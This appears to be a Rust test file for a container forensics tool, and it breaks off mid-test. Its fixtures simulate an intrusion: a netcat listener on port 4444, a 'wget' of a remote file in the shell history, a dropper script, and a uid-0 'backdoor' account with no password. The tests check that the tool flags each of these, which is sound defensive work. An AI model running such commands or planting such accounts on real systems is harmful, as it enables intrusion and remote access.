//! The views of `forensic show` and `forensic timeline` over a bundle built here in the
//! collector's member formats, with the real Falco and audit samples (`shared/samples`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod fixture;

use fixture::{CONTAINER_ID, bundle, members};
use forensic_analysis::AnalysisError;
use forensic_analysis::evidence::{Check, Evidence, Limits};
use forensic_analysis::files::{FileFilter, for_each};
use forensic_analysis::findings::Severity;
use forensic_analysis::target::Target;
use forensic_analysis::timeline::{Format, TimelineOptions, write_timeline};
use forensic_bundle::checked::CheckedError;
use forensic_bundle::verify::{Report, verify};

/// `(pid, depth, container pid, uid, start time)`.
type ProcRow<'a> = (u32, usize, Option<u32>, Option<u32>, Option<&'a str>);
/// `(proto, family, local, remote, state, uid, inode, owner pids)`.
type SockRow = (String, &'static str, String, String, String, u32, u64, Vec<u32>);

fn open(bytes: &[u8]) -> Report {
    let report = verify(bytes, &Default::default()).unwrap();
    assert!(report.verified(), "{:?}", report.failures);
    report
}

fn evidence<'a>(bytes: &'a [u8], report: &Report) -> Evidence<'a, [u8]> {
    Evidence::open(bytes, report.manifest.as_ref(), Check::Strict, Limits::default()).unwrap()
}

#[test]
fn processes_form_a_tree_with_start_times_from_boot_time() {
    let b = bundle(&members());
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let rec = forensic_analysis::processes::read(&mut ev).unwrap();
    let v = forensic_analysis::processes::view(&rec, |m| ev.has_member(m));
    assert_eq!(v.boot_time.as_deref(), Some("2023-11-14T22:13:20Z"));
    let rows: Vec<ProcRow<'_>> = v
        .processes
        .iter()
        .map(|p| (p.pid, p.depth, p.container_pid, p.uid, p.start_time.as_deref()))
        .collect();
    assert_eq!(
        rows,
        [
            (200, 0, Some(1), Some(0), Some("2023-11-14T22:33:55.07Z")),
            (205, 1, Some(3), Some(0), Some("2023-11-14T22:33:55.21Z")),
            (210, 1, Some(7), Some(1000), Some("2023-11-14T22:33:55.51Z")),
        ]
    );
    let ghost = &v.processes[1];
    assert_eq!(
        (
            ghost.exe.as_deref(),
            ghost.exe_deleted,
            ghost.exe_sha256.as_deref(),
            ghost.exe_copy.as_deref()
        ),
        (Some("/tmp/.x/sleep"), true, Some("bbbb"), Some("1-processes/205/exe"))
    );
    assert_eq!(
        ghost.flags.iter().map(|f| f.as_str()).collect::<Vec<_>>(),
        ["rwx-anonymous-map", "runs-from-temp-dir", "deleted-executable"]
    );
    assert_eq!(v.processes[2].cmdline, ["nc", "-l", "-p", "4444"]);
}

#[test]
fn without_boot_time_start_times_stay_ticks() {
    let m: Vec<_> = members()
        .into_iter()
        .filter(|(n, _)| n != "1-processes/boot.txt")
        .collect();
    let b = bundle(&m);
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let rec = forensic_analysis::processes::read(&mut ev).unwrap();
    let v = forensic_analysis::processes::view(&rec, |m| ev.has_member(m));
    assert_eq!(v.boot_time, None);
    assert_eq!(
        v.processes
            .iter()
            .map(|p| (p.start_time.clone(), p.start_time_ticks))
            .collect::<Vec<_>>(),
        [(None, Some(123456)), (None, Some(123470)), (None, Some(123500))]
    );
    let mut out = Vec::new();
    let summary = write_timeline(&mut ev, &r, &TimelineOptions::new(Format::Jsonl), &mut out).unwrap();
    assert!(
        summary.notes.contains(
            &"processes: boot time unknown (the bundle has no 1-processes/boot.txt): the start times of 3 processes (clock ticks since boot only) are not in the timeline"
                .to_string()
        ),
        "{:?}",
        summary.notes
    );
    assert!(!String::from_utf8(out).unwrap().contains("\"source\":\"process\""));
}

#[test]
fn network_decodes_ipv4_and_ipv6_tables_with_owners() {
    let b = bundle(&members());
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let rec = forensic_analysis::processes::read(&mut ev).unwrap();
    let v = forensic_analysis::network::view(&mut ev, &rec.processes).unwrap();
    let rows: Vec<SockRow> = v
        .inet
        .iter()
        .map(|s| {
            (
                s.proto.clone(),
                s.family,
                s.local.clone(),
                s.remote.clone(),
                s.state.clone(),
                s.uid,
                s.inode,
                s.owners.iter().map(|o| o.pid).collect(),
            )
        })
        .collect();
    let row = |p: &str, f: &'static str, l: &str, r: &str, st: &str, uid: u32, inode: u64, o: &[u32]| {
        (
            p.to_string(),
            f,
            l.to_string(),
            r.to_string(),
            st.to_string(),
            uid,
            inode,
            o.to_vec(),
        )
    };
    assert_eq!(
        rows,
        [
            row("tcp", "ipv4", "0.0.0.0:22", "0.0.0.0:0", "LISTEN", 0, 2740, &[]),
            row(
                "tcp",
                "ipv4",
                "10.0.2.15:22",
                "10.0.2.2:35691",
                "ESTABLISHED",
                0,
                3652,
                &[]
            ),
            row("tcp6", "ipv6", "[::]:4444", "[::]:0", "LISTEN", 1000, 7001, &[210]),
            row(
                "tcp6",
                "ipv6",
                "[::ffff:10.0.0.5]:8080",
                "[::ffff:203.0.113.7]:443",
                "ESTABLISHED",
                0,
                7002,
                &[]
            ),
            row("udp", "ipv4", "0.0.0.0:53", "0.0.0.0:0", "UNCONN", 0, 7003, &[]),
        ]
    );
    let nc = &v.inet[2].owners[0];
    assert_eq!((nc.fd, nc.cmdline.as_str()), (3, "nc -l -p 4444"));
    assert_eq!(v.inet[2].evidence, "2-network/proc-net/tcp6");
    assert_eq!(v.undecoded.len(), 1, "{:?}", v.undecoded);
    assert!(
        v.undecoded[0].starts_with("2-network/proc-net/tcp6 line 4: "),
        "{:?}",
        v.undecoded
    );
}

#[test]
fn network_without_raw_tables_uses_the_decoded_list() {
    let sockets = r#"{"inet":[{"proto":"tcp","local":"0.0.0.0:4444","remote":"0.0.0.0:0","state":"LISTEN","uid":0,"inode":99,
        "owners":[{"pid":57,"fd":3,"cmdline":"nc -l -p 4444"}]}],"unix":[]}"#;
    let m = vec![("2-network/sockets.json".to_string(), sockets.as_bytes().to_vec())];
    let b = bundle(&m);
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let v = forensic_analysis::network::view(&mut ev, &[]).unwrap();
    assert_eq!(v.owners_from, "2-network/sockets.json");
    assert_eq!(v.inet.len(), 1);
    let s = &v.inet[0];
    assert_eq!(
        (
            s.local_address.as_str(),
            s.local_port,
            s.state.as_str(),
            s.owners[0].pid
        ),
        ("0.0.0.0", 4444, "LISTEN", 57)
    );
}

fn listed(b: &[u8], r: &Report, filter: &FileFilter) -> (Vec<String>, u64) {
    let mut ev = evidence(b, r);
    let mut paths = Vec::new();
    let total = for_each(&mut ev, filter, |_, e| {
        paths.push(e.path.shown());
        Ok(())
    })
    .unwrap();
    (paths, total)
}

#[test]
fn files_are_filtered_by_path_time_setuid_and_execute_bits() {
    let b = bundle(&members());
    let r = open(&b);
    let all = listed(&b, &r, &FileFilter::default());
    assert_eq!(all.1, 8);
    assert_eq!(
        all.0,
        [
            "/",
            "/tmp",
            "/tmp/dropper.sh",
            "/tmp/x\\xff|y",
            "/tmp/link",
            "/usr/bin/su",
            "/proc",
            "/secret"
        ]
    );
    let mut f = FileFilter::default();
    f.add_path("/tmp").unwrap();
    assert_eq!(
        listed(&b, &r, &f).0,
        ["/tmp", "/tmp/dropper.sh", "/tmp/x\\xff|y", "/tmp/link"]
    );
    let mut f = FileFilter::default();
    f.add_path("/usr/*/s?").unwrap();
    assert_eq!(listed(&b, &r, &f).0, ["/usr/bin/su"]);
    let mut f = FileFilter::default();
    f.setuid = true;
    assert_eq!(listed(&b, &r, &f).0, ["/usr/bin/su"]);
    let mut f = FileFilter::default();
    f.executable = true;
    assert_eq!(listed(&b, &r, &f).0, ["/tmp/dropper.sh", "/usr/bin/su"]);
    // ctime of dropper.sh is 22:35:01, after its mtime: the window catches it by ctime.
    let mut f = FileFilter::default();
    f.since_ns = Some(forensic_analysis::time::parse_bound("2023-11-14T22:35:00.5Z", 0).unwrap());
    f.until_ns = Some(forensic_analysis::time::parse_bound("2023-11-14T22:35:02Z", 0).unwrap());
    assert_eq!(listed(&b, &r, &f).0, ["/tmp/dropper.sh", "/tmp/x\\xff|y"]);
    // Relative to the collection (22:40:00): the last 5 minutes.
    let mut f = FileFilter::default();
    f.since_ns = Some(forensic_analysis::time::parse_bound("5m", fixture::CREATED_NS).unwrap());
    assert_eq!(
        listed(&b, &r, &f).0,
        ["/tmp", "/tmp/dropper.sh", "/tmp/x\\xff|y", "/tmp/link"]
    );
    f.since_ns = Some(forensic_analysis::time::parse_bound("299s", fixture::CREATED_NS).unwrap());
    assert_eq!(listed(&b, &r, &f).0, ["/tmp/dropper.sh", "/tmp/x\\xff|y", "/tmp/link"]);
}

#[test]
fn suspicious_names_every_checklist_item_with_its_evidence() {
    let b = bundle(&members());
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let target = Target::from_manifest(r.manifest.as_ref());
    let a = forensic_analysis::suspicious::analyse(&mut ev, &target).unwrap();
    let got: Vec<(Severity, &str, &str)> = a
        .view
        .findings
        .iter()
        .map(|f| (f.severity, f.kind.as_str(), f.message.as_str()))
        .collect();
    for f in &a.view.findings {
        assert!(
            f.kind.allows(f.severity),
            "{} with severity {} (docs/findings.md)",
            f.kind,
            f.severity
        );
    }
    use Severity::*;
    let want: Vec<(Severity, &str, &str)> = vec![
        (Critical, "uid0-user", "account backdoor has uid 0 (root's powers)"),
        (
            Critical,
            "empty-password",
            "account backdoor has an empty password: anyone may log in as it",
        ),
        (
            High,
            "deleted-executable",
            "pid 205 (/tmp/.x/sleep 100000) runs /tmp/.x/sleep, which was deleted after it started (sha256 bbbb)",
        ),
        (
            High,
            "runs-from-temp-dir",
            "pid 205 (/tmp/.x/sleep 100000) runs from a temporary directory: /tmp/.x/sleep",
        ),
        (
            High,
            "executable-in-temp-dir",
            "executable file in a temporary directory: /tmp/dropper.sh (-rwxr-xr-x 0:0 52 bytes, modified 2023-11-14T22:35:00.123456789Z)",
        ),
        (
            High,
            "setuid-outside-system-dirs",
            "setuid or setgid file outside the system directories: /var/tmp/.s (-rwsr-xr-x 0:0 100 bytes, modified 2023-11-14T22:35:04.000000000Z)",
        ),
        (High, "account-file-changed", "account file modified: /etc/passwd"),
        (
            High,
            "system-binary-changed",
            "program or library modified in the container: /usr/bin/report",
        ),
        (
            High,
            "privileged-container",
            "the container runs privileged: every capability and every device of the node",
        ),
        (
            High,
            "sensitive-host-mount",
            "host path /var/run/docker.sock is mounted at /var/run/docker.sock (writable)",
        ),
        (
            High,
            "exec-into-pod",
            "mallory opened a exec session into pod shop/web-7d9f (1 events at 2023-11-14T22:34:00.000000000Z)",
        ),
        (
            Medium,
            "shell-or-network-tool",
            "pid 210 (nc -l -p 4444) looks like remote access or data movement (nc)",
        ),
        (
            Medium,
            "rwx-anonymous-map",
            "pid 205 (/tmp/.x/sleep 100000) has writable and executable anonymous memory (injected code, or a JIT)",
        ),
        (
            Medium,
            "listening-socket",
            "tcp 0.0.0.0:22 LISTEN: no owning process found",
        ),
        (
            Medium,
            "listening-socket",
            "tcp6 [::]:4444 LISTEN: pid 210 fd 3 (nc -l -p 4444)",
        ),
        (
            Medium,
            "established-connection",
            "tcp6 [::ffff:10.0.0.5]:8080 → [::ffff:203.0.113.7]:443 ESTABLISHED (public address): no owning process found",
        ),
        (
            Medium,
            "listening-socket",
            "udp 0.0.0.0:53 UNCONN: no owning process found",
        ),
        (
            Medium,
            "log-deleted",
            "1 files under /var/log were deleted in the container",
        ),
        (
            Medium,
            "shell-history",
            "shell history /root/.bash_history: 2 commands (the last 2 shown)",
        ),
        (
            Medium,
            "added-capabilities",
            "capabilities added to the container: SYS_PTRACE",
        ),
        (
            Medium,
            "secret-access",
            "mallory read secrets (get shop/db) (1 events at 2023-11-14T22:35:00.000000000Z)",
        ),
        (
            Medium,
            "falco-alert",
            "Falco Warning: Read sensitive file trusted after startup (1 alerts at 2024-05-07T18:54:26.271403849Z)",
        ),
        (
            Medium,
            "falco-alert",
            "Falco Warning: Read sensitive file untrusted (1 alerts at 2024-05-07T18:54:19.341081180Z)",
        ),
        (
            Low,
            "secret-in-environment",
            "pid 210 (nc -l -p 4444) has secret-looking variables in its environment: DB_PASSWORD",
        ),
        (
            Low,
            "established-connection",
            "tcp 10.0.2.15:22 → 10.0.2.2:35691 ESTABLISHED: no owning process found",
        ),
        (
            Low,
            "setuid-files",
            "1 setuid or setgid files in system directories (usually the distribution's own)",
        ),
        (
            Low,
            "secret-in-environment",
            "the container's configured environment has secret-looking variables: API_TOKEN",
        ),
        (
            Low,
            "falco-alert",
            "Falco Notice: Run shell untrusted (1 alerts at 2024-05-07T18:54:27.767673017Z)",
        ),
        (
            Info,
            "root-processes",
            "2 of 3 processes run as root (uid 0): pid 200, 205",
        ),
        (
            Info,
            "falco-alert",
            "Falco Informational: System user interactive (2 alerts at 2024-05-07T18:54:20.008519431Z)",
        ),
        (
            Info,
            "falco-other-containers",
            "14 of 19 Falco alerts in the log are about other containers or the host (not listed)",
        ),
    ];
    for (i, (g, w)) in got.iter().zip(&want).enumerate() {
        assert_eq!(g, w, "finding {i}");
    }
    assert_eq!(got.len(), want.len(), "{got:#?}");
    let by_kind = |k: &str| {
        a.view
            .findings
            .iter()
            .find(|f| f.kind.as_str() == k)
            .unwrap()
            .evidence
            .clone()
    };
    assert_eq!(
        by_kind("deleted-executable"),
        ["1-processes/processes.json: pid 205", "1-processes/205/exe"]
    );
    assert_eq!(
        by_kind("executable-in-temp-dir"),
        [
            "5-filesystem/derived/tmp-executables.jsonl line 1",
            "5-filesystem/root/tmp/dropper.sh"
        ]
    );
    assert_eq!(
        by_kind("account-file-changed"),
        [
            "5-filesystem/upper-changes.jsonl line 2",
            "5-filesystem/upper/etc/passwd"
        ]
    );
    assert_eq!(
        by_kind("uid0-user"),
        ["5-filesystem/root/etc/passwd line 2: backdoor:x:0:0::/root:/bin/sh"]
    );
    assert_eq!(
        by_kind("shell-history"),
        [
            "5-filesystem/root/root/.bash_history",
            "5-filesystem/root/root/.bash_history line 1: id",
            "5-filesystem/root/root/.bash_history line 3: wget http://203.0.113.7/x"
        ]
    );
    assert_eq!(
        by_kind("exec-into-pod"),
        ["7-audit/audit.log line 7: create pods/exec shop/web-7d9f by mallory from 192.0.2.10 → 101 (ResponseStarted)"]
    );
    assert_eq!(
        by_kind("rwx-anonymous-map"),
        ["1-processes/processes.json: pid 205", "1-processes/205/maps"]
    );
    let info = a
        .view
        .findings
        .iter()
        .find(|f| f.message.starts_with("Falco Informational"))
        .unwrap();
    assert_eq!(info.evidence.len(), 2);
    assert!(
        info.evidence[0].starts_with(
            "8-alerts/falco.log line 2: 2024-05-07T18:54:20.008519431+0000: Informational System user ran"
        )
    );
    assert!(info.evidence[1].starts_with("8-alerts/falco.log line 5: "));
    assert_eq!(
        (
            a.view.counts.critical,
            a.view.counts.high,
            a.view.counts.medium,
            a.view.counts.low,
            a.view.counts.info
        ),
        (2, 9, 12, 5, 3)
    );
    assert_eq!(
        a.view.not_checked,
        ["Kubernetes audit events: 1 record of 7-audit/audit.log skipped, not audit.k8s.io events"]
    );
    let alerts = a.alerts.unwrap();
    assert_eq!((alerts.alerts, alerts.matched, alerts.other_lines), (19, 5, 0));
    // The sample's four events (one wrapped by AKS) and the fixture's three.
    assert_eq!(a.audit.unwrap().events, 7);
    assert_eq!(a.files_indexed, Some(8));
}

#[test]
fn summary_counts_and_custody_head() {
    let b = bundle(&members());
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let target = Target::from_manifest(r.manifest.as_ref());
    let a = forensic_analysis::suspicious::analyse(&mut ev, &target).unwrap();
    let s = forensic_analysis::summary::view(&r, &a);
    assert_eq!(s.bundle_id.as_deref(), Some("fixture-bundle"));
    assert_eq!(s.image.as_deref(), Some("localhost/web:1"));
    assert_eq!(s.target["container_id"], CONTAINER_ID);
    let sections: Vec<(u64, &str, usize)> = s
        .sections
        .iter()
        .map(|x| (x.number, x.name.as_str(), x.members))
        .collect();
    assert_eq!(
        sections,
        [
            (1, "processes", 7),
            (2, "network", 3),
            (5, "filesystem", 10),
            (6, "podspec", 1),
            (7, "audit", 1),
            (8, "alerts", 1)
        ]
    );
    let c = &s.counts;
    assert_eq!(
        (
            c.members,
            c.processes,
            c.sockets,
            c.listening,
            c.files_indexed,
            c.alerts,
            c.alerts_for_container,
            c.audit_events
        ),
        (23, Some(3), Some(5), Some(2), Some(8), Some(19), Some(5), Some(7))
    );
    assert_eq!(s.custody.entries, 1);
    assert_eq!(s.custody.head_sha256, r.custody_head.map(|d| d.hex()));
    assert_eq!(
        (s.custody.last_action.as_deref(), s.custody.last_actor.as_deref()),
        (Some("sealed"), Some("alice"))
    );
    assert_eq!(s.top_findings.len(), 10);
    assert_eq!(s.top_findings[0].kind.as_str(), "uid0-user");
}

#[test]
fn falco_ids_of_12_and_64_digits_name_the_same_container() {
    // The sample's second container is named only by 12 digits; its full id is not in any alert.
    let other = format!("84c0b936c919{}", "0".repeat(52));
    for (id, matched) in [
        (CONTAINER_ID.to_string(), 5u64),
        (other, 12),
        ("044d7c551e4a".repeat(5) + "0000", 1),
    ] {
        let m = vec![(
            "8-alerts/falco.log".to_string(),
            forensic_samples::read("falco/elastic-test-falco.log").unwrap(),
        )];
        let b = bundle(&m);
        let r = open(&b);
        let mut ev = evidence(&b, &r);
        let mut lines = Vec::new();
        let counts = forensic_analysis::falco::for_each(&mut ev, Some(&id), |a, mine| {
            if mine {
                lines.push(a.evidence.clone());
            }
            Ok(())
        })
        .unwrap();
        assert_eq!((counts.alerts, counts.matched), (19, matched), "{id}");
        if matched == 1 {
            // The last alert names its container only inside its text (container_id=044d7c551e4a).
            assert_eq!(lines, ["8-alerts/falco.log line 19"]);
        }
    }
}

fn timeline(b: &[u8], r: &Report, opts: &TimelineOptions) -> (String, forensic_analysis::timeline::TimelineSummary) {
    let mut ev = evidence(b, r);
    let mut out = Vec::new();
    let s = write_timeline(&mut ev, r, opts, &mut out).unwrap();
    (String::from_utf8(out).unwrap(), s)
}

#[test]
fn timeline_orders_every_source_in_one_time_line() {
    let b = bundle(&members());
    let r = open(&b);
    let mut opts = TimelineOptions::new(Format::Jsonl);
    opts.since_ns = Some(forensic_analysis::time::parse_bound("2023-11-14T22:30:00Z", 0).unwrap());
    let (out, summary) = timeline(&b, &r, &opts);
    let events: Vec<serde_json::Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let got: Vec<(String, String, String)> = events
        .iter()
        .map(|e| {
            (
                e["time"].as_str().unwrap().to_string(),
                e["source"].as_str().unwrap().to_string(),
                e["kind"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let t = |time: &str, source: &str, kind: &str| (time.to_string(), source.to_string(), kind.to_string());
    let mut want = vec![
        t("2023-11-14T22:30:00.500000000Z", "container", "created"),
        t("2023-11-14T22:33:55.07Z", "process", "start"),
        t("2023-11-14T22:33:55.21Z", "process", "start"),
        t("2023-11-14T22:33:55.51Z", "process", "start"),
        // The exec session's two stages (lines 6 and 7) are one request.
        t("2023-11-14T22:34:00.000000000Z", "audit", "create"),
        t("2023-11-14T22:35:00.000000000Z", "audit", "get"),
        t("2023-11-14T22:35:00.000000000Z", "file", "m.c."),
        t("2023-11-14T22:35:00.123456789Z", "file", "m..."),
        t("2023-11-14T22:35:01.000000000Z", "file", "..c."),
        t("2023-11-14T22:35:02.000000000Z", "file", "m.c."),
        t("2023-11-14T22:35:03.000000000Z", "file", "m.c."),
        t("2023-11-14T22:40:00.000000000Z", "collection", "created"),
    ];
    // The fixture's six sections each start and finish 1 ms after the previous one.
    for i in 0..6 {
        let at = forensic_analysis::time::format_ns(fixture::CREATED_NS + i * 1_000_000);
        want.push(t(&at, "collection", "started"));
        want.push(t(&at, "collection", "finished"));
    }
    want.push(t("2023-11-14T22:40:00.006000000Z", "custody", "sealed"));
    // The container's Falco alerts (sample lines 1-5), then the sample's audit events of 2025.
    want.extend([
        t("2024-05-07T18:54:19.341081180Z", "falco", "Warning"),
        t("2024-05-07T18:54:20.008519431Z", "falco", "Informational"),
        t("2024-05-07T18:54:20.008519431Z", "falco", "Informational"),
        t("2024-05-07T18:54:26.271403849Z", "falco", "Warning"),
        t("2024-05-07T18:54:27.767673017Z", "falco", "Notice"),
        // Lines 2 and 3 of the sample are one request logged twice; line 5 is wrapped by AKS.
        t("2025-03-04T06:22:18.819232000Z", "audit", "get"),
        t("2025-07-16T10:12:56.525137000Z", "audit", "get"),
        t("2025-09-30T06:23:35.091134000Z", "audit", "update"),
    ]);
    assert_eq!(got, want);
    let dropper = &events[7];
    assert_eq!(dropper["description"], "-rwxr-xr-x 0:0 52 /tmp/dropper.sh");
    assert_eq!(dropper["evidence"], "5-filesystem/tree-index.jsonl line 3");
    assert_eq!(dropper["detail"]["sha256"], "cccc");
    // Shown at its most complete stage, as `forensic audit` shows it.
    assert_eq!(events[4]["evidence"], "7-audit/audit.log line 7");
    assert_eq!(
        events[4]["description"],
        "create pods/exec shop/web-7d9f by mallory from 192.0.2.10 → 101 (ResponseStarted)"
    );
    assert_eq!(events[4]["detail"]["target_pod"], true);
    let aks = events.last().unwrap();
    assert_eq!(aks["evidence"], "7-audit/audit.log line 5");
    assert_eq!(aks["detail"]["user"], "aksService");
    assert_eq!(
        events[1]["description"],
        "pid 200 (ppid 150, uid 0) /bin/sleep 100000 [exe /bin/busybox]"
    );
    assert_eq!(
        summary.notes,
        [
            "falco: 14 of 19 alerts are about other containers or the host and are left out (--all-alerts includes them)",
            "audit: 1 record skipped, not audit.k8s.io events and not in the timeline (gke-cloud-audit 1; forensic audit lists them)",
            "audit: 7 events are 5 requests: the stages of a request (and copies of it) are one event, at its most complete stage",
            "files: 5-filesystem/tree-index.jsonl records modification and change times, not access or birth times",
        ]
    );
    assert_eq!(summary.written, want.len() as u64);
}

#[test]
fn timeline_includes_the_containers_falco_alerts_and_sorts_through_spill_files() {
    let b = bundle(&members());
    let r = open(&b);
    let mut opts = TimelineOptions::new(Format::Csv);
    opts.until_ns = Some(forensic_analysis::time::parse_bound("2024-12-31", 0).unwrap());
    opts.since_ns = Some(forensic_analysis::time::parse_bound("2024-01-01", 0).unwrap());
    let (in_memory, _) = timeline(&b, &r, &opts);
    opts.max_in_memory = 2;
    let (spilled, _) = timeline(&b, &r, &opts);
    assert_eq!(in_memory, spilled);
    let lines: Vec<&str> = in_memory.lines().collect();
    assert_eq!(lines[0], "time,time_ns,source,kind,description,evidence");
    assert_eq!(lines.len(), 1 + 5, "{in_memory}");
    assert_eq!(
        lines[1],
        "2024-05-07T18:54:19.341081180Z,1715108059341081180,falco,Warning,Read sensitive file untrusted: Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=runc ggparent=init gggparent=init evt_type=openat user=root user_uid=0 user_loginuid=-1 process=event-generator proc_exepath=/bin/event-generator parent=containerd-shim command=event-generator run --loop terminal=0 container_id=9656db3bb358 container_name=elastic-package-service-falco-event-generator-1),8-alerts/falco.log line 1"
    );
    let evidence: Vec<&str> = lines[1..].iter().map(|l| l.rsplit(',').next().unwrap()).collect();
    assert_eq!(
        evidence,
        [
            "8-alerts/falco.log line 1",
            "8-alerts/falco.log line 2",
            "8-alerts/falco.log line 5",
            "8-alerts/falco.log line 3",
            "8-alerts/falco.log line 4"
        ]
    );
    opts.all_alerts = true;
    let (all, _) = timeline(&b, &r, &opts);
    assert_eq!(
        all.lines().count(),
        1 + 18,
        "the undated-free alerts of 2024 of every container"
    );
}

#[test]
fn bodyfile_lines_are_tsk_3_format() {
    let b = bundle(&members());
    let r = open(&b);
    let mut opts = TimelineOptions::new(Format::Bodyfile);
    opts.since_ns = Some(forensic_analysis::time::parse_bound("2023-11-14T22:35:00Z", 0).unwrap());
    opts.until_ns = Some(forensic_analysis::time::parse_bound("2023-11-14T22:35:59Z", 0).unwrap());
    let (out, summary) = timeline(&b, &r, &opts);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("# forensic timeline: body file"));
    assert_eq!(
        &lines[1..],
        [
            "0|[audit] get: get secrets shop/db by mallory from 192.0.2.10 → 200 (ResponseComplete) (7-audit/audit.log line 8)|0|-/----------|0|0|0|1700001300|1700001300|1700001300|1700001300",
            "0|/tmp|10|d/drwxrwxrwt|0|0|4096|-1|1700001300|1700001300|-1",
            "0|/tmp/dropper.sh|11|r/rrwxr-xr-x|0|0|52|-1|1700001300|1700001301|-1",
            "0|/tmp/x%FF%7Cy|12|r/rrw-r--r--|1000|1000|3|-1|1700001302|1700001302|-1",
            "0|/tmp/link -> /etc/shadow|13|l/lrwxrwxrwx|0|0|11|-1|1700001303|1700001303|-1",
        ]
    );
    assert_eq!(summary.written, 5);
}

#[test]
fn a_member_changed_after_verification_is_an_error_or_with_force_a_warning() {
    let b = bundle(&members());
    let r = open(&b);
    let mut manifest = r.manifest.clone().unwrap();
    let m = manifest
        .members
        .iter_mut()
        .find(|m| m.name == "1-processes/processes.json")
        .unwrap();
    m.sha256 = forensic_bundle::digest::Digest([0u8; 32]);
    let mut strict = Evidence::open(&b[..], Some(&manifest), Check::Strict, Limits::default()).unwrap();
    let err = forensic_analysis::processes::read(&mut strict).unwrap_err();
    assert!(
        matches!(&err, AnalysisError::Checked(CheckedError::DigestMismatch { member, .. }) if member == "1-processes/processes.json"),
        "{err}"
    );
    let mut lenient = Evidence::open(&b[..], Some(&manifest), Check::Lenient, Limits::default()).unwrap();
    let rec = forensic_analysis::processes::read(&mut lenient).unwrap();
    assert_eq!(rec.processes.len(), 3);
    assert_eq!(lenient.warnings().len(), 1);
    assert!(lenient.warnings()[0].starts_with("member 1-processes/processes.json does not match the manifest"));
    assert!(lenient.warnings()[0].ends_with("; used anyway (--force)"));
}

#[test]
fn limits_bound_lines() {
    let b = bundle(&members());
    let r = open(&b);
    let limits = Limits {
        max_line: 100,
        ..Limits::default()
    };
    let mut ev = Evidence::open(&b[..], r.manifest.as_ref(), Check::Strict, limits).unwrap();
    let err = for_each(&mut ev, &FileFilter::default(), |_, _| Ok(())).unwrap_err();
    assert!(
        matches!(&err, AnalysisError::Contents(forensic_evidence::EvidenceError::LineTooLong { member, line: 1, max: 100 }) if member == "5-filesystem/tree-index.jsonl"),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        "5-filesystem/tree-index.jsonl line 1 is longer than 100 bytes"
    );
}

#[test]
fn audit_lines_that_are_not_events_are_counted() {
    let m = vec![(
        "7-audit/audit.log".to_string(),
        forensic_samples::read("k8s-audit/elastic-test-audit.log").unwrap(),
    )];
    let b = bundle(&m);
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let mut seen = Vec::new();
    let counts = forensic_analysis::audit::for_each(&mut ev, |e| {
        seen.push((e.verb.clone(), e.object(), e.time.clone().unwrap(), e.evidence.clone()));
        Ok(())
    })
    .unwrap();
    // Line 4 is a GKE Cloud Audit record; line 5 an event wrapped by AKS (in properties.log).
    assert_eq!((counts.events, counts.other_lines), (4, 1));
    assert_eq!(
        seen[3],
        (
            "update".to_string(),
            "leases".to_string(),
            "2025-09-30T06:23:35.091134000Z".to_string(),
            "7-audit/audit.log line 5".to_string()
        )
    );
    assert_eq!(
        seen[0],
        (
            "get".to_string(),
            "pods".to_string(),
            "2025-03-04T06:22:18.819232000Z".to_string(),
            "7-audit/audit.log line 1".to_string()
        )
    );
}

/// `show` reads the account files with the one parser `diff` uses (`forensic_evidence::accounts`):
/// a line that is not an entry, or a later line of a name already seen, is not an account (as for
/// the C library); an empty password field in `/etc/passwd` counts as in `/etc/shadow`
/// (docs/findings.md: `uid0-user`, `empty-password`).
#[test]
fn account_findings_read_the_files_as_the_c_library_does() {
    let passwd = b"root:x:0:0:root:/root:/bin/sh\n\
evil:x:0:0\n\
toor:x:0:0::/root:/bin/sh\n\
root:x:0:0:second:/:/bin/sh\n\
app:x:1000:1000::/home/app:/bin/sh\n\
nopw::1001:1001::/home/nopw:/bin/sh\n";
    let shadow = b"root:*:19000:0:99999:7:::\napp::19000:0:99999:7:::\n+nis::::::::\n";
    let mut members = members();
    for (name, bytes) in &mut members {
        match name.as_str() {
            "5-filesystem/root/etc/passwd" => *bytes = passwd.to_vec(),
            "5-filesystem/root/etc/shadow" => *bytes = shadow.to_vec(),
            _ => {}
        }
    }
    let b = bundle(&members);
    let r = open(&b);
    let mut ev = evidence(&b, &r);
    let target = Target::from_manifest(r.manifest.as_ref());
    let a = forensic_analysis::suspicious::analyse(&mut ev, &target).unwrap();
    let accounts: Vec<(Severity, &str, &str, &[String])> = a
        .view
        .findings
        .iter()
        .filter(|f| matches!(f.kind.as_str(), "uid0-user" | "empty-password"))
        .map(|f| (f.severity, f.kind.as_str(), f.message.as_str(), f.evidence.as_slice()))
        .collect();
    let ev = |s: &str| vec![s.to_string()];
    assert_eq!(
        accounts,
        [
            (
                Severity::Critical,
                "uid0-user",
                "account toor has uid 0 (root's powers)",
                ev("5-filesystem/root/etc/passwd line 3: toor:x:0:0::/root:/bin/sh").as_slice()
            ),
            (
                Severity::Critical,
                "empty-password",
                "account nopw has an empty password: anyone may log in as it",
                ev("5-filesystem/root/etc/passwd line 6").as_slice()
            ),
            (
                Severity::Critical,
                "empty-password",
                "account app has an empty password: anyone may log in as it",
                ev("5-filesystem/root/etc/shadow line 2").as_slice()
            ),
        ]
    );
}

/// The Timesketch formats hold exactly the timeline's events, in its order, each `datetime` the
/// event's time with an explicit offset (docs/export.md).
#[test]
fn timesketch_rows_are_the_timeline_events() {
    let b = bundle(&members());
    let r = open(&b);
    let (jsonl, _) = timeline(&b, &r, &TimelineOptions::new(Format::Jsonl));
    let (ts, _) = timeline(&b, &r, &TimelineOptions::new(Format::Timesketch));
    let (csv, _) = timeline(&b, &r, &TimelineOptions::new(Format::TimesketchCsv));
    let events: Vec<serde_json::Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let rows: Vec<serde_json::Value> = ts.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
